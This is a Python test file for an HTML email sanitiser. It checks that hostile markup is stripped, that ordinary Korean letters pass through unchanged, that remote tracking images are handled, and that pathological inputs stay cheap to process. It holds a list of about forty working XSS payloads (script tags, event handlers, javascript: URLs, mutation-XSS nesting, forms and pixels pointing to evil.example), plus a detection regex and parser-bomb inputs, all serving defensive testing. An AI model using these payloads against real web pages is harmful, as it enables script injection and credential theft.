"""Nothing active comes through, whatever it is wrapped in; what reads like a letter stays."""

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from maru.core.html import (
    CHILD,
    IN_PROCESS,
    Limits,
    excess,
    remote_positions,
    sanitise,
    show,
    undress,
    words_for_pictures,
)

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' &#1;javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:alert(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/desk/ab/members'>x</a>",
    "<a href='https://user@evil.example/'>x</a>",
    "<a href='https:\\\\evil.example'>x</a>",
    "<form action=https://evil.example><input name=password><button>x</button></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example)</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<p style='background-color:url(https://evil.example/x)'>x</p>",
    "<p style='color:expression(alert(1))'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9'>x</p>",
    "<p style='width:99999px;height:99999px'>x</p>",
    "<div id=x name=x class=modal hx-get=/x hx-on:click=alert(1) data-module=x>x</div>",
    "<object data=x></object><embed src=x><applet code=x></applet>",
    "<video src=https://evil.example autoplay onloadstart=alert(1)></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<x-agent onfocus=alert(1) autofocus tabindex=1>x</x-agent>",
    "<img src='https://evil.example/pixel.gif'>",
    "<img srcset='https://evil.example/a 1x'>",
    "<table background='https://evil.example/a'><tr><td>x</table>",
    "<body onload=alert(1)>x",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<p title="x\u202e">\u202etxt.exe</p>',
]
FORBIDDEN = re.compile(
    r"<script|javascript:|vbscript:|<svg|<math|<iframe|<form|<input|<style|<link|<meta|<base|<object|<embed|<video"
    r"|\son\w+\s*=|evil\.example|url\(|expression|position|\s(?:id|class|name|hx-|data-)|srcset|href=\"/|\u202e|99999|100v",
    re.IGNORECASE,
)


@pytest.mark.row("EML-09")
@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_active_comes_through(html: str) -> None:
    for wrapped in (html, f"<p>{html}</p>", f"<table><tr><td>{html}", f"<b><i>{html}</b>"):
        clean = sanitise(wrapped).html
        assert not FORBIDDEN.search(clean), clean
        # Cleaning what is clean changes nothing: a sign that no second reading differs.
        assert sanitise(clean).html == clean


@settings(max_examples=300, deadline=1000)
@given(
    st.lists(
        st.sampled_from([*HOSTILE, "<", ">", '"', "'", "<p>", "</p>", "<!--", "-->", "&lt;", "\0", "<a ", "=", "x"]),
        max_size=12,
    )
)
def test_nothing_active_in_any_mixture(pieces: list[str]) -> None:
    clean = sanitise("".join(pieces)).html
    # Text may say anything; only markup counts.
    markup = " ".join(re.findall(r"<[^>]*>", re.sub(r'"[^"]*"', lambda m: m[0] if "evil" in m[0] else '""', clean)))
    assert not re.search(r"<script|<svg|<iframe|<style|\son\w+=|javascript:", markup, re.IGNORECASE), clean


def test_a_letter_stays_as_it_is() -> None:
    html = (
        '<p style="color:#333;text-align:center">안녕하세요 <b>굵게</b> <a href="https://example.com/?a=1&amp;b=2" '
        'rel="noopener noreferrer nofollow">링크</a></p><table border="1"><tbody><tr><td colspan="2">표</td></tr></tbody></table>'
    )
    assert sanitise(html).html == html


def test_pictures_show_only_where_they_may() -> None:
    safe = sanitise(
        '<img src="cid:a@b" alt="x"><img src="https://tracker.example/1.gif"><img src="http://tracker.example/2.gif">'
    )
    assert safe.remote_images == ["https://tracker.example/1.gif", "http://tracker.example/2.gif"]
    assert "src" not in show(safe.html)
    shown = show(safe.html, inline=lambda content_id: f"/files/{content_id}", remote=lambda index: f"/remote/{index}")
    assert re.findall(r'src="([^"]*)"', shown) == ["/files/a@b", "/remote/0", "/remote/1"]
    assert '"><script>' not in show(safe.html, inline=lambda _id: '"><script>')


BOMBS = {
    "depth": "<div>" * 40_000,
    "font and p": "".join(f"<font a={n}>" for n in range(80)) + "<p>x" * 20_000,
    "attributes": "<a " + " ".join(f"b{n}" for n in range(40_000)) + ">",
    "comments": "<!--" * 60_000,
    "quotes": '<a "' * 60_000,
    "angles": "<" * 250_000,
    "tables": "<table><tr><td>" * 8_000,
    "rows": "<table>" + "<tr><td>x" * 9_000,
    "selects": "<select>" * 9_000,
    "ends": "</p>" * 60_000,
    "entities": "&amp" * 60_000,
    "megabytes": "x" * 5_000_000,
}


@pytest.mark.parametrize("name", BOMBS)
def test_bombs_are_cheap(name: str) -> None:
    started = time.process_time()
    sanitise(BOMBS[name])
    assert time.process_time() - started < 0.5


def test_over_a_limit_the_words_remain() -> None:
    safe = sanitise("<div>" * 500 + "중요한 말<script>alert(1)</script>")
    assert safe.fallback == "depth"
    assert safe.html == "<p>중요한 말</p>"


def test_limits_have_names() -> None:
    small = Limits(size=100, depth=3, nodes=10, marks=20)
    assert excess("x" * 101, small) == "size"
    assert excess("<div><div><div><div>", small) == "depth"
    assert excess("<br>" * 11, small) == "nodes"
    assert excess("<a " + "b=1 " * 20 + ">", small) == "attributes"
    assert excess("<p>fine</p>", small) == ""
    assert CHILD.size > IN_PROCESS.size


def test_a_page_shows_a_mail_without_its_styles_and_backgrounds() -> None:
    mail = '<table bgcolor="#fff"><tr><td style="color:red" align="left">a<br><b style="color: red">b</b></td></tr></table>'
    shown = undress(sanitise(mail).html)
    assert "style" not in shown
    assert "bgcolor" not in shown
    assert 'align="left"' in shown
    assert "<b>b</b>" in shown


def test_words_that_look_like_a_style_stay_words() -> None:
    tricky = """<p title=' style='>1</p><p title='x style="a" onclick=' dir="ltr">2</p> <p>&lt;p style="a"&gt;</p>"""
    safe = sanitise(tricky).html
    assert undress(safe) == safe


def test_pictures_elsewhere_are_told_by_place_without_spies() -> None:
    html = (
        '<img src="https://x.example/0.png" alt="0"><img src="https://x.example/1.gif" width="1" height="1">'
        '<img src="https://x.example/2.gif" style="width:1px;height:1px"><img src="cid:own@x"><img src="https://x.example/3.png" width="1">'
    )
    safe = sanitise(html)
    assert len(safe.remote_images) == 4
    assert remote_positions(safe.html) == [0, 3]
    assert remote_positions("") == []


def test_pictures_that_are_not_shown_give_way_to_their_words() -> None:
    safe = sanitise(
        '<p>a<img src="https://x.example/0.png" alt="&quot;>&lt;b>x&lt;/b> src="><img src="cid:own@x" alt="mine"><img src="https://x.example/1.png"></p>'
    )
    shown = words_for_pictures(show(safe.html, inline=lambda name: "/own"), "no-picture")
    assert shown.count("<img") == 1
    assert 'src="/own"' in shown
    assert '<span class="no-picture">&quot;&gt;&lt;b&gt;x&lt;/b&gt; src=</span>' in shown
    assert "<b>" not in shown
    assert words_for_pictures(show(safe.html, remote=lambda place: f"/p{place}"), "x").count("<img") == 2
